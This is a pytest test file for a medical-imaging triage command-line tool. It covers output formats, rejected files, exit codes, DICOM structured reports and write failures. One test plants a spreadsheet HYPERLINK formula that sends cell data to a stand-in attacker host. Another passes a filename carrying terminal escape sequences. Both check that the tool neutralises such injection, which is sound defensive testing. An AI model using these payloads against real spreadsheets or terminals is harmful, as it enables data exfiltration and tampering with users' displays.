"""`medtriage score`: table, JSON, CSV, folders, rejects with reasons, exit codes, DICOM SR read back by dcmtk; `serve` options."""

import csv
import io
import json
import os
import pathlib
import re
import shutil
import subprocess

import pydicom
import pytest
from pydicom.data import get_testdata_file

from medtriage.cli import main
from medtriage.serve.package import load_package

CT, MR, RTPLAN = (get_testdata_file(n) for n in ("CT_small.dcm", "MR_small.dcm", "rtplan.dcm"))


def score(capsys, *args) -> tuple[int, str, str]:
    code = main(["score", *map(str, args)])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_table_shows_finding_probability_priority_and_model(capsys, package_dir):
    code, out, err = score(capsys, package_dir, CT, MR)
    header, first, second = out.splitlines()
    assert header.split() == ["file", "finding", "p(pneumonia)", "priority", "decision", "model", "/", "why", "not", "scored"]
    assert first.startswith("CT_small.dcm") and "tiny-pneumonia v" in first and "(sha256 " in first
    assert second.startswith("MR_small.dcm") and "sha256" not in second
    assert code == 0 and "provider CPUExecutionProvider" in err


def test_json_and_csv_carry_the_same_results(capsys, package_dir):
    _, out, _ = score(capsys, package_dir, CT, "--json")
    document = json.loads(out)
    (result,) = document["results"]
    assert document["model"]["provider"] == "CPUExecutionProvider"
    assert result["sop_uid"] == pydicom.dcmread(CT).SOPInstanceUID
    _, out, _ = score(capsys, package_dir, CT, "--csv")
    (row,) = csv.DictReader(io.StringIO(out))
    assert float(row["probability"]) == pytest.approx(result["probability"])
    assert (row["priority"], row["finding"], row["sha256"]) == (result["priority"], result["finding"], result["sha256"])


def test_csv_cells_from_headers_never_start_a_spreadsheet_formula(capsys, package_dir, tmp_path):
    ds = pydicom.dcmread(CT)
    ds.SOPInstanceUID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'  # what a crafted header can carry
    ds.save_as(tmp_path / "crafted.dcm")
    code, out, err = score(capsys, package_dir, tmp_path / "crafted.dcm", "=missing.dcm", "--csv")
    assert f"warning: {tmp_path / 'crafted.dcm'}: Invalid value for VR UI" in err  # pydicom flags it; the file still scores
    scored, rejected = csv.DictReader(io.StringIO(out))
    assert scored["sop_uid"] == "'" + ds.SOPInstanceUID and scored["probability"][0].isdigit()
    assert rejected["file"] == "'=missing.dcm" and code == 1


def test_the_table_prints_control_characters_as_escapes(capsys, package_dir):
    code, out, _ = score(capsys, package_dir, "\x1b]0;owned\x07\x1b[2J.dcm")
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned\\x07\\x1b[2J.dcm" in out and code == 1


def test_a_folder_with_bad_files_lists_every_reject_and_exits_nonzero(capsys, package_dir, tmp_path):
    folder = tmp_path / "inbox" / "nested"
    folder.mkdir(parents=True)
    for source in (CT, MR, RTPLAN):
        shutil.copy(source, folder)
    (folder / "notes.txt").write_text("not an image")
    (folder / "cut.dcm").write_bytes(open(CT, "rb").read()[:5000])
    code, out, err = score(capsys, package_dir, tmp_path / "inbox", tmp_path / "missing.dcm", "--json")
    document = json.loads(out)
    scored = {r["file"] for r in document["results"]}
    rejected = {r["file"].rsplit("/", 1)[-1]: r["reason"] for r in document["rejected"]}
    assert len(scored) + len(rejected) == 6  # counts in = scored + rejected
    assert set(rejected) == {"rtplan.dcm", "notes.txt", "cut.dcm", "missing.dcm"}
    assert "RT Plan" in rejected["rtplan.dcm"] and "no such file" in rejected["missing.dcm"]
    assert code == 1 and "6 input(s)" in err and "4 rejected" in err


def test_what_a_folder_holds_that_is_no_file_is_rejected_by_name(capsys, package_dir, tmp_path):
    import os

    folder = tmp_path / "inbox"
    folder.mkdir()
    shutil.copy(CT, folder)
    (folder / "lost.dcm").symlink_to(tmp_path / "moved-away.dcm")  # a link whose file is gone
    os.mkfifo(folder / "pipe.dcm")
    (tmp_path / "elsewhere").mkdir()
    shutil.copy(MR, tmp_path / "elsewhere")
    (folder / "series2").symlink_to(tmp_path / "elsewhere")  # not followed: such a link may lead back up the tree
    code, out, err = score(capsys, package_dir, folder, "--json", "--allow-out-of-scope")
    document = json.loads(out)
    rejected = {r["file"].rsplit("/", 1)[-1]: r["reason"] for r in document["rejected"]}
    assert set(rejected) == {"lost.dcm", "pipe.dcm", "series2"}
    assert "not a file" in rejected["lost.dcm"] and "not a file" in rejected["pipe.dcm"]
    assert "linked folder is not followed" in rejected["series2"]
    assert len(document["results"]) == 1 and code == 1 and "3 rejected" in err


def test_an_empty_folder_is_rejected_not_a_clean_result(capsys, package_dir, tmp_path):
    (tmp_path / "inbox").mkdir()
    code, out, err = score(capsys, package_dir, tmp_path / "inbox", "--json")
    (rejected,) = json.loads(out)["rejected"]
    assert "holds no files" in rejected["reason"] and code == 1 and "1 rejected" in err


def test_an_npz_that_is_not_one_is_a_clear_error(capsys, package_dir, tmp_path):
    (tmp_path / "scan.npz").write_bytes(b"not a zip")
    code, _, err = score(capsys, package_dir, "--npz", tmp_path / "scan.npz", "--split", "test")
    assert code != 0 and "not a readable npz file" in err and "Traceback" not in err


def test_table_lists_rejected_files_with_reason(capsys, package_dir):
    code, out, _ = score(capsys, package_dir, RTPLAN)
    (row,) = out.splitlines()[1:]
    assert "REJECTED" in row and "without pixel data" in row and code == 1


def test_unknown_provider_or_broken_package_is_an_error_not_a_crash(capsys, package_copy):
    (package_copy / "model.onnx").write_bytes(b"tampered")
    code, _, err = score(capsys, package_copy, CT)
    assert code == 2 and "sha256" in err


def test_serve_refuses_a_worklist_that_keeps_nothing(capsys, package_dir):
    with pytest.raises(SystemExit) as exit_info:
        main(["serve", str(package_dir), "--worklist-size", "0"])
    assert exit_info.value.code == 2 and "--worklist-size" in capsys.readouterr().err


def test_sr_is_written_per_file_and_references_the_source(capsys, package_dir, tmp_path):
    code, _, _ = score(capsys, package_dir, CT, get_testdata_file("emri_small.dcm"), "--sr", tmp_path / "sr")
    assert code == 0
    source = pydicom.dcmread(CT)
    (sr_path,) = (tmp_path / "sr").glob(f"{source.SOPInstanceUID}.*.SR.dcm")  # UID, digest of the source, suffix
    sr = pydicom.dcmread(sr_path)
    assert sr.Modality == "SR" and sr.StudyInstanceUID == source.StudyInstanceUID and sr.PatientID == source.PatientID
    evidence = sr.CurrentRequestedProcedureEvidenceSequence[0]
    assert evidence.StudyInstanceUID == source.StudyInstanceUID
    series = evidence.ReferencedSeriesSequence[0]
    assert series.SeriesInstanceUID == source.SeriesInstanceUID
    assert series.ReferencedSOPSequence[0].ReferencedSOPInstanceUID == source.SOPInstanceUID
    assert len(list((tmp_path / "sr").glob("*.SR.dcm"))) == 2


def test_dcmtk_reads_the_sr(need_tool, capsys, package_dir, tmp_path):
    need_tool("dsrdump", "apt-get install dcmtk")
    _, out, _ = score(capsys, package_dir, get_testdata_file("emri_small.dcm"), "--json", "--sr", tmp_path)
    results = json.loads(out)["results"]
    (sr_path,) = tmp_path.glob("*.SR.dcm")
    dump = subprocess.run(["dsrdump", "+Pu", str(sr_path)], capture_output=True, text=True, timeout=60)
    assert dump.returncode == 0, dump.stderr
    assert "Comprehensive SR Document" in dump.stdout
    meaning = "Calibrated probability" if load_package(package_dir).calibrated else "Probability"
    values = [float(v) for v in re.findall(rf'"{meaning} of pneumonia"\)="([0-9.eE+-]+)"', dump.stdout)]
    assert values == pytest.approx([r["probability"] for r in results], abs=1e-6) and len(values) == 10
    assert results[0]["sop_uid"] in dump.stdout  # the referenced source instance
    assert "Algorithm Name" in dump.stdout and "tiny-pneumonia" in dump.stdout
    assert '"Triage priority"' in dump.stdout


def test_an_npz_split_is_scored_whole_with_the_images_the_ood_score_would_withhold_flagged(capsys, safe_package_dir):
    from tests.export.tiny_package import NPZ

    code, out, _ = score(capsys, safe_package_dir, "--npz", NPZ, "--split", "val", "--json")
    results = json.loads(out)["results"]
    threshold = json.loads((safe_package_dir / "model.json").read_text())["ood"]["threshold"]
    flagged = [r["ood_score"] > threshold for r in results]
    assert code == 0 and len(results) == 524 and all(r["status"] == "scored" for r in results)
    assert [("unusual_input" in r["flags"]) for r in results] == flagged and any(flagged) and not all(flagged)


def test_an_output_folder_that_cannot_be_made_stops_before_any_scoring(capsys, package_dir, tmp_path):
    (tmp_path / "a-file").write_text("")
    code, out, err = score(capsys, package_dir, CT, "--sr", tmp_path / "a-file" / "sr")
    assert code == 2 and out == ""
    assert f"--sr {tmp_path / 'a-file' / 'sr'}: cannot create the output folder (Not a directory)" in err
    assert "can be written" in err and "input(s)" not in err


def test_an_sr_that_cannot_be_written_is_named_and_the_others_go_on(capsys, package_dir, tmp_path):
    """A write that fails part-way through a run (here the SR's name is taken by a folder; a full disk alike) costs
    that file's SR, named with the reason, not its score nor the whole run's results in a traceback."""
    sr_dir = tmp_path / "sr"
    assert score(capsys, package_dir, CT, "--sr", sr_dir)[0] == 0
    (taken,) = sr_dir.glob("*.SR.dcm")
    taken.unlink()
    taken.mkdir()
    code, out, err = score(capsys, package_dir, CT, MR, "--sr", sr_dir, "--json")
    document = json.loads(out)
    assert code == 1 and "Traceback" not in err and document["rejected"] == []
    (unwritten,) = document["not_written"]
    assert (unwritten["file"], unwritten["output"], unwritten["error"]) == (str(CT), "SR", "IsADirectoryError")
    assert unwritten["reason"] == f"no SR written: cannot write {taken} (Is a directory)"
    assert "can be written" in unwritten["hint"]
    assert [r["file"] for r in document["results"]] == [str(CT), str(MR)]
    assert len([p for p in sr_dir.glob("*.SR.dcm") if p.is_file()]) == 1  # the MR's; the CT's name is the folder


def test_results_that_cannot_be_written_to_stdout_are_an_error_not_a_traceback(package_dir):
    """`medtriage score ... --json > out.json` on a full disk: the script reading out.json must not take exit status 1
    (some files rejected) for a result; it gets 2 and the reason."""
    import sys

    if not pathlib.Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    command = [sys.executable, "-m", "medtriage.cli", "score", str(package_dir), CT, "--json"]
    with open("/dev/full", "w") as full:
        child = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert child.returncode == 2, child.stderr
    assert "error: stdout: the results could not be written to standard output (No space left on device)" in child.stderr
    assert "Traceback" not in child.stderr and "Exception ignored" not in child.stderr


def test_a_heatmap_that_cannot_be_written_is_named_and_the_others_go_on(capsys, package_copy, tmp_path):
    """As for an SR: the slide's score stands and the heatmap missing is named with its reason (it rejected the slide:
    minutes of scoring lost to a full disk)."""
    from medtriage.io.safe_output import output_path
    from tests.serve.test_slides import with_pathology_block
    from tests.serve.test_slides_lab import TILE, generated_slide

    package = with_pathology_block(package_copy, stain_normalization=None, tile_size=TILE)
    first, second = (generated_slide(tmp_path / f"slide-{i}.tif") for i in (1, 2))
    heatmaps = tmp_path / "heatmaps"
    taken = output_path(heatmaps, first.stem, ".heatmap.png", source=str(first.resolve()))
    taken.mkdir(parents=True)  # its name taken by a folder: the write fails as on a full disk
    code, out, err = score(capsys, package, first, second, "--heatmaps", heatmaps, "--json")
    document = json.loads(out)
    assert code == 1 and "Traceback" not in err and document["rejected"] == []
    (unwritten,) = document["not_written"]
    assert (unwritten["file"], unwritten["output"], unwritten["error"]) == (str(first), "heatmap", "IsADirectoryError")
    assert unwritten["reason"] == f"no heatmap written: cannot write {taken} (Is a directory)"
    assert [r["file"] for r in document["results"]] == [str(first), str(second)]
    assert document["results"][0]["heatmap"] is None
    assert pathlib.Path(document["results"][1]["heatmap"]).is_file()


def test_a_slide_whose_file_fails_to_read_is_rejected_and_the_others_go_on(capsys, package_copy, tmp_path, monkeypatch):
    import errno

    import medtriage.serve.slides as slides
    from tests.serve.test_slides import with_pathology_block
    from tests.serve.test_slides_lab import TILE, generated_slide

    package = with_pathology_block(package_copy, stain_normalization=None, tile_size=TILE)
    first, second = (generated_slide(tmp_path / f"slide-{i}.tif") for i in (1, 2))
    prepare = slides.prepare_slide

    def share_gone_for_the_first(path, *args, **kwargs):
        if pathlib.Path(path) == first:
            raise OSError(errno.EIO, os.strerror(errno.EIO), str(path))
        return prepare(path, *args, **kwargs)

    monkeypatch.setattr(slides, "prepare_slide", share_gone_for_the_first)
    code, out, err = score(capsys, package, first, second, "--json")
    document = json.loads(out)
    assert code == 1 and "Traceback" not in err
    (rejected,) = document["rejected"]
    assert rejected["reason"] == f"cannot read {first} (Input/output error); the slide was not scored"
    assert [r["file"] for r in document["results"]] == [str(second)]


@pytest.mark.parametrize("extra", [[CT], ["--sr", "sr"], ["--overlays", "overlays"], ["--heatmaps", "heatmaps"], ["--mpp", "0.5"]])
def test_npz_scoring_refuses_what_it_would_leave_out(capsys, package_dir, tmp_path, extra):
    """`score pkg a.dcm --npz x.npz` scored the split alone and exited 0: the file was never scored, and no word said so."""
    from tests.export.tiny_package import NPZ

    extra = [extra[0], tmp_path / extra[1]] if extra[0] in ("--sr", "--overlays", "--heatmaps") else extra
    code, out, err = score(capsys, package_dir, *extra, "--npz", NPZ)
    assert code == 2 and out == ""
    assert "error: --npz scores one npz split alone" in err and "would be left out" in err
    assert not list(tmp_path.iterdir())


def test_a_folder_is_scored_without_its_hidden_folders_and_its_dicomdir(tmp_path):
    """Before, only hidden files were skipped: a viewer's thumbnails in a hidden folder and a CD's DICOMDIR (its index
    of the images, itself no image) were rejected, and every CD import ended as if files had failed."""
    from medtriage.serve.cli import collect_files

    study = tmp_path / "cd"
    (study / "IMAGES").mkdir(parents=True)
    shutil.copy(get_testdata_file("CT_small.dcm"), study / "IMAGES" / "IM0001")
    (study / ".thumbnails").mkdir()
    (study / ".thumbnails" / "IM0001.jpg").write_bytes(b"\xff\xd8\xff\xe0 a thumbnail")
    shutil.copy(get_testdata_file("DICOMDIR"), study / "DICOMDIR")
    files, rejected, _ = collect_files([str(study)])
    assert files == [study / "IMAGES" / "IM0001"] and rejected == []


def test_an_overlay_that_cannot_be_written_keeps_the_score_and_the_sr(capsys, package_dir, tmp_path):
    """Only the overlay is missing, and said to be: the file was listed as rejected, without its score, and the
    overlay's failure went unsaid where its SR had failed first."""
    from medtriage.io.safe_output import output_path

    taken = output_path(tmp_path / "ov", pydicom.dcmread(CT).SOPInstanceUID, ".overlay.png", source=pathlib.Path(CT).resolve())
    taken.mkdir(parents=True)  # its name taken by a folder: the write fails as on a full disk
    code, out, err = score(capsys, package_dir, CT, "--sr", tmp_path / "sr", "--overlays", tmp_path / "ov", "--json")
    document = json.loads(out)
    (unwritten,) = document["not_written"]
    assert code == 1 and document["rejected"] == [] and [r["file"] for r in document["results"]] == [str(CT)]
    assert (unwritten["output"], unwritten["reason"]) == ("overlay", f"no overlay written: cannot write {taken} (Is a directory)")
    assert len(list((tmp_path / "sr").glob("*.SR.dcm"))) == 1
    assert "0 rejected, 1 overlay(s) not written" in err
